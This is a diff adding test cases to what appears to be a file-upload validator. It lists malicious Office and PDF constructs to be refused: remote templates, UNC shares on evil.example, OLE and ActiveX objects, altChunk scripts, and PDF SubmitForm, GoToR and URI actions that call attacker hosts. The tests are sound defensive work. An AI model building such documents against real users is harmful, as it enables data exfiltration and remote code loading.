@@ -78,6 +78,135 @@ REFUSED = {
         "không mở được",
     ),
     "jpeg header and noise": ("anh.jpg", lambda: b"\xff\xd8\xff\xe0 noise", "không mở được"),
+    "docx with a remote template": (
+        "ke-hoach.docx",
+        h.docx_with_remote_template,
+        "liên kết tới nội dung bên ngoài tệp (http://evil.example/t.dotm)",
+    ),
+    "docx with an external image": (
+        "ke-hoach.docx",
+        lambda: h.docx_with(
+            {
+                "word/_rels/document.xml.rels": h.relationships(
+                    f'<Relationship Id="rId1" Type="{h.RELS}/image" '
+                    'Target="file://///evil.example/share/a.png" TargetMode="External"/>'
+                )
+            }
+        ),
+        "Office sẽ tự tải nội dung này về khi mở tệp",
+    ),
+    "xlsx with an external link": (
+        "so-lieu.xlsx",
+        lambda: h.zip_with(
+            xlsx({"A": [[1]]}),
+            {
+                "xl/externalLinks/_rels/externalLink1.xml.rels": h.relationships(
+                    f'<Relationship Id="rId1" Type="{h.RELS}/externalLinkPath" '
+                    'Target="\\\\evil.example\\share\\b.xlsx" TargetMode="external"/>'
+                )
+            },
+        ),
+        "nội dung bên ngoài tệp",
+    ),
+    "docx with an OLE object": (
+        "ke-hoach.docx",
+        lambda: h.docx_with({"word/embeddings/oleObject1.bin": h.ole_file("Ole10Native")}),
+        "đối tượng nhúng (OLE)",
+    ),
+    "docx embedding a macro workbook": (
+        "ke-hoach.docx",
+        lambda: h.docx_with({"word/embeddings/Sheet1.xlsx": h.docm_renamed_docx()}),
+        "chứa macro",
+    ),
+    "docx with a web hyperlink": (
+        "ke-hoach.docx",
+        lambda: h.docx_with(
+            {
+                "word/_rels/document.xml.rels": h.relationships(
+                    f'<Relationship Id="rId1" Type="{h.RELS}/hyperlink" '
+                    'Target="https://thuvienphapluat.vn/" TargetMode="External"/>'
+                )
+            }
+        ),
+        "liên kết tới địa chỉ bên ngoài tệp (https://thuvienphapluat.vn/)",
+    ),
+    "docx with an altChunk stored under another name": (
+        "ke-hoach.docx",
+        lambda: h.docx_with(
+            {
+                "word/_rels/document.xml.rels": h.relationships(
+                    f'<Relationship Id="rId1" Type="{h.RELS}/aFChunk" Target="part1.html"/>'
+                ),
+                "word/part1.html": b"<html><script>x</script></html>",
+            }
+        ),
+        "altChunk",
+    ),
+    "docx with an OLE object stored elsewhere": (
+        "ke-hoach.docx",
+        lambda: h.docx_with(
+            {
+                "word/_rels/document.xml.rels": h.relationships(
+                    f'<Relationship Id="rId1" Type="{h.RELS}/oleObject" Target="media/x.png"/>'
+                ),
+                "word/media/x.png": h.ole_file("Ole10Native"),
+            }
+        ),
+        "đối tượng nhúng (OLE)",
+    ),
+    "docx with ActiveX": (
+        "ke-hoach.docx",
+        lambda: h.docx_with({"word/activeX/activeX1.bin": b"x"}),
+        "điều khiển ActiveX",
+    ),
+    "docx with an altChunk": (
+        "ke-hoach.docx",
+        lambda: h.docx_with({"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<script>x</script>"}),
+        "altChunk",
+    ),
+    "pdf with an XFA form": ("bao-cao.pdf", h.pdf_with_xfa_script, "biểu mẫu XFA"),
+    "pdf submitting a form": (
+        "bao-cao.pdf",
+        lambda: h.pdf_opening_with(b"/S /SubmitForm /F (http://evil.example/)"),
+        "gửi dữ liệu ra ngoài",
+    ),
+    "pdf importing data": (
+        "bao-cao.pdf",
+        lambda: h.pdf_opening_with(b"/S /ImportData /F (du-lieu.fdf)"),
+        "gửi dữ liệu ra ngoài",
+    ),
+    "pdf opening a remote file": (
+        "bao-cao.pdf",
+        lambda: h.pdf_opening_with(b"/S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit]"),
+        "mở một tệp khác",
+    ),
+    "pdf opening an embedded file": (
+        "bao-cao.pdf",
+        lambda: h.pdf_opening_with(b"/S /GoToE /T << /R /C /N (a.pdf) >>"),
+        "mở một tệp khác",
+    ),
+    "pdf opening an address": (
+        "bao-cao.pdf",
+        lambda: h.pdf_opening_with(b"/S /URI /URI (http://evil.example/track)"),
+        "tự mở một địa chỉ web",
+    ),
+    "pdf chaining to an address": (
+        "bao-cao.pdf",
+        lambda: h.pdf_opening_with(
+            b"/S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://e.x/) >>"
+        ),
+        "tự mở một địa chỉ web",
+    ),
+    "pdf page opening an address": (
+        "bao-cao.pdf",
+        h.pdf_page_opening_address,
+        "tự mở một địa chỉ web",
+    ),
+    "pdf script outside the xref": (
+        "bao-cao.pdf",
+        h.pdf_with_unlisted_javascript,
+        "ngoài bảng mục lục",
+    ),
 }
 
 ACCEPTED = {
@@ -90,6 +219,10 @@ ACCEPTED = {
     "xls": ("so-lieu.xls", lambda: h.ole_file("Workbook")),
     "png": ("anh.png", png_bytes),
     "jpeg": ("anh.jpeg", h.jpeg_bytes),
+    "docx with an internal hyperlink": ("ke-hoach.docx", h.docx_with_internal_hyperlink),
+    "docx with a chart workbook": ("ke-hoach.docx", h.docx_with_chart_workbook),
+    "pdf with a link annotation": ("bao-cao.pdf", h.pdf_with_a_link),
+    "pdf written by hand": ("bao-cao.pdf", lambda: h.raw_pdf(b"")),
 }
 
 
